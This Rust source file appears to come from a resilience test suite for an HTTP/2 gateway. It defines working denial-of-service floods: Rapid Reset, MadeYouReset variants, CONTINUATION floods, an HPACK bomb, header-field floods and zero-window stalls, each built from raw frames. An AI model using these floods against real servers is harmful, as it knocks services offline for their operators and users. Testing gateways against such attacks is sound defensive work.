//! What is cheap to send and dear to serve, as frames without end (http-edge §3.2).

use super::raw::{Frame, Raw, kind};

/// The path that is asked for.
pub const PATH: &str = "/all";

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const FRAME_MAX: usize = 16_384;

/// One kind of flood.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// Its name in tables and failures.
    pub name: &'static str,
    /// What is said first.
    pub begin: fn() -> Vec<u8>,
    /// What is said then, for each number from 0 on.
    pub frame: fn(u32) -> Vec<u8>,
}

impl Attack {
    /// The flood of this name.
    ///
    /// # Panics
    /// When there is none.
    pub fn named(name: &str) -> Self {
        let found = ATTACKS.iter().find(|attack| attack.name == name);
        *found.unwrap_or_else(|| panic!("no attack is named {name:?}"))
    }

    /// Floods until the gateway has gone or `most` are sent; how many.
    pub fn flood(&self, raw: &mut Raw, most: usize) -> usize {
        match raw.try_send_bytes(&(self.begin)()) {
            Ok(()) => raw.flood(most, self.frame),
            Err(_gone) => 0,
        }
    }
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "PING", begin: nothing, frame: |_| connection(kind::PING, &[0; 8]) },
    Attack { name: "SETTINGS", begin: nothing, frame: |_| connection(kind::SETTINGS, &[]) },
    Attack { name: "PRIORITY", begin: nothing, frame: |n| stream(kind::PRIORITY, n, &[0; 5]) },
    Attack {
        name: "WINDOW_UPDATE",
        begin: nothing,
        frame: |_| connection(kind::WINDOW_UPDATE, &[0, 0, 0, 1]),
    },
    Attack {
        name: "a window that opens byte by byte",
        begin: closed_window,
        frame: |_| stream(kind::WINDOW_UPDATE, 0, &[0, 0, 0, 1]),
    },
    Attack { name: "unknown frames", begin: nothing, frame: |_| connection(99, b"x") },
    Attack {
        name: "rapid reset",
        begin: nothing,
        frame: |n| behind_get(n, kind::RST_STREAM, &[0, 0, 0, 8]),
    },
    Attack {
        name: "made you reset: an increment of 0",
        begin: nothing,
        frame: |n| behind_get(n, kind::WINDOW_UPDATE, &[0; 4]),
    },
    Attack {
        name: "made you reset: overflow",
        begin: nothing,
        frame: |n| behind_get(n, kind::WINDOW_UPDATE, &[0x7F, 0xFF, 0xFF, 0xFF]),
    },
    Attack {
        name: "made you reset: data behind the end",
        begin: nothing,
        frame: |n| behind_get(n, kind::DATA, b"x"),
    },
    Attack {
        name: "made you reset: depends on itself",
        begin: nothing,
        frame: |n| behind_get(n, kind::PRIORITY, &[&id(n).to_be_bytes()[..], &[0]].concat()),
    },
    Attack {
        name: "made you reset: a head that is none",
        begin: nothing,
        frame: |n| Frame::headers(id(n), "GET", PATH, &[("Upper", "x")], true).bytes(),
    },
    Attack {
        name: "made you reset: another length",
        begin: nothing,
        frame: |n| {
            let head = Frame::headers(id(n), "POST", PATH, &[("content-length", "5")], false);
            [head.bytes(), Frame::new(kind::DATA, END_STREAM, id(n), b"x").bytes()].concat()
        },
    },
    Attack {
        name: "empty CONTINUATION",
        begin: half_a_head,
        frame: |_| Frame::new(kind::CONTINUATION, 0, 1, &[]).bytes(),
    },
    Attack {
        name: "full CONTINUATION",
        begin: half_a_head,
        frame: |_| Frame::new(kind::CONTINUATION, 0, 1, &[0x82; FRAME_MAX]).bytes(),
    },
    Attack {
        name: "empty DATA",
        begin: || Frame::headers(1, "POST", PATH, &[], false).bytes(),
        frame: |_| Frame::new(kind::DATA, 0, 1, &[]).bytes(),
    },
    Attack { name: "HPACK bomb", begin: nothing, frame: |n| bomb(id(n)).bytes() },
    Attack { name: "thousands of fields", begin: nothing, frame: |n| crumbs(id(n)) },
    Attack {
        name: "zero window",
        begin: || Frame::new(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]).bytes(),
        frame: |n| get(n).bytes(),
    },
];

/// A head of few bytes that unpacks to a large one: a field of 4,000 bytes goes into the table, and then it is named
/// again and again, a byte each.
pub fn bomb(stream: u32) -> Frame {
    let mut block = Frame::headers(stream, "GET", PATH, &[], true).payload;
    block.extend([0x40, 1, b'b', 0x7F, 0xA1, 0x1E]);
    block.extend([b'x'; 4_000]);
    block.extend([0xBE; 12_000]);
    Frame::new(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)
}

/// A head of 5,000 fields, in as many frames as it takes.
pub fn crumbs(stream: u32) -> Vec<u8> {
    let crumbs: Vec<_> = (0..5_000).map(|_| ("cookie", "a")).collect();
    let block = Frame::headers(stream, "GET", PATH, &crumbs, true).payload;
    let mut pieces = block.chunks(FRAME_MAX).peekable();
    let (mut bytes, mut next, mut flags) = (Vec::new(), kind::HEADERS, END_STREAM);
    while let Some(piece) = pieces.next() {
        let last = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        bytes.extend(Frame::new(next, flags | last, stream, piece).bytes());
        (next, flags) = (kind::CONTINUATION, 0);
    }
    bytes
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

/// A request whose answer has no room.
fn closed_window() -> Vec<u8> {
    const INITIAL_WINDOW_SIZE: u8 = 4;
    let none = [0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0];
    [connection(kind::SETTINGS, &none), get(0).bytes()].concat()
}

fn half_a_head() -> Vec<u8> {
    Frame::new(kind::HEADERS, 0, 1, &[0x82]).bytes()
}

fn id(number: u32) -> u32 {
    1 + 2 * number
}

fn get(number: u32) -> Frame {
    Frame::headers(id(number), "GET", PATH, &[], true)
}

fn connection(kind: u8, payload: &[u8]) -> Vec<u8> {
    Frame::new(kind, 0, 0, payload).bytes()
}

fn stream(kind: u8, number: u32, payload: &[u8]) -> Vec<u8> {
    Frame::new(kind, 0, id(number), payload).bytes()
}

/// A request and, on its stream, this.
fn behind_get(number: u32, kind: u8, payload: &[u8]) -> Vec<u8> {
    [get(number).bytes(), stream(kind, number, payload)].concat()
}
